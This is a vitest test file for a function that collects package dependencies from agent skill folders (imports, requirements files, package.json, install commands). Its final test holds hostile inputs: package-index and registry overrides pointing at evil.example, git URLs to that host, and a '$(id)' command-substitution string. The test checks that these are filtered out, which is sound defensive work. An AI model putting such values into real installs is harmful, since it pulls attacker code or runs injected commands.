import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { loadSkill } from '@skill-state/agent-skills'
import { findProgram } from '@skill-state/sandbox'
import { expect, test } from 'vitest'
import { emptyFolder } from '../../../test/skill-state.ts'
import { packageNeeds } from './needs.ts'

function needsOf(files: Readonly<Record<string, string>>): ReturnType<typeof packageNeeds> {
  const folder = join(emptyFolder(), 'skill')
  const body = files['SKILL.md'] ?? 'Do it.'
  const all = { ...files, 'SKILL.md': `---\nname: skill\ndescription: Does. Use it.\n---\n\n${body}\n` }
  for (const [name, text] of Object.entries(all)) {
    mkdirSync(dirname(join(folder, name)), { recursive: true })
    writeFileSync(join(folder, name), text)
  }
  return packageNeeds(loadSkill(folder).files)
}

const hasPython = findProgram('python3') !== undefined

test.runIf(hasPython)('reads imports of Python by its syntax, and not what only looks like one', () => {
  const { python } = needsOf({
    'scripts/a.py': `"""
import looks_like_one
"""
import json, yaml as y
from PIL import Image
from .here import x
from helpers.tool import z
def late():
    import numpy.linalg
try:
    import optional_thing
except ImportError:
    pass
try:
    import httpx
except ImportError:
    print("install httpx")
    sys.exit(1)
text = 'import quoted'
`,
    'scripts/helpers/tool.py': 'import a\n',
    'SKILL.md': 'Use:\n\n```python\nfrom pypdf import PdfReader\nfor page in …:\n```\n\nThe import of goods.',
  })
  expect(python).toEqual(['httpx', 'numpy', 'pillow', 'pypdf', 'pyyaml'])
})

test.runIf(hasPython)('takes requirements, projects and commands of the text, with their versions', () => {
  const { python, node } = needsOf({
    'requirements.txt': '# wanted\nrich>=13.0 # tables\n-r other.txt\nhttps://x.y/z.whl\nsix == 1.16.0\n',
    'pyproject.toml': '[project]\nname = "x"\ndependencies = ["httpx[http2]>=0.27"]\n',
    'scripts/one.py': '# /// script\n# dependencies = ["attrs"]\n# ///\nimport attr\n',
    'package.json':
      '{"dependencies": {"zod": "^4.0.0", "mine": "file:../x"}, "devDependencies": {"vitest": "*"}}',
    'scripts/b.mjs':
      "import fs from 'node:fs'\nimport { z } from 'zod'\nimport './c.mjs'\n// import d from 'dropped'\nconst e = require('@scope/pkg/sub')\n",
    'SKILL.md':
      'Run `pip install "markitdown[pptx]" --quiet` and `npm install -g docx`; never `pip install -r requirements.txt` or `pip install <name>`; `uv add --group dev --script it.py tqdm`.',
  })
  expect(python).toEqual([
    'attrs',
    'httpx[http2]>=0.27',
    'markitdown[pptx]',
    'rich>=13.0',
    'six==1.16.0',
    'tqdm',
  ])
  expect(node).toEqual(['@scope/pkg', 'docx', 'mine', 'zod@^4.0.0'])
})

test('a program that a script installs for itself is a package, and what it installs in a project is none', () => {
  const { node } = needsOf({
    'scripts/a.sh': 'command -v pnpm || npm install -g pnpm\npnpm add -D parcel\nnpm install left\n',
  })
  expect(node).toEqual(['pnpm'])
})

test('a name that an installer would take for an option, an address or a path is left out', () => {
  const { python, node } = needsOf({
    'requirements.txt':
      '--index-url=https://evil.example\ngit+https://evil.example/x\n./local\n../up\n$(id)\n',
    'package.json': '{"dependencies": {"--registry=https://evil.example": "1", "a b": "1", "../x": "1"}}',
    'SKILL.md':
      '`pip install --index-url https://evil.example/x good`; `npm install git+https://evil.example/x.git ./y`',
  })
  expect([python, node]).toEqual([['good'], []])
})
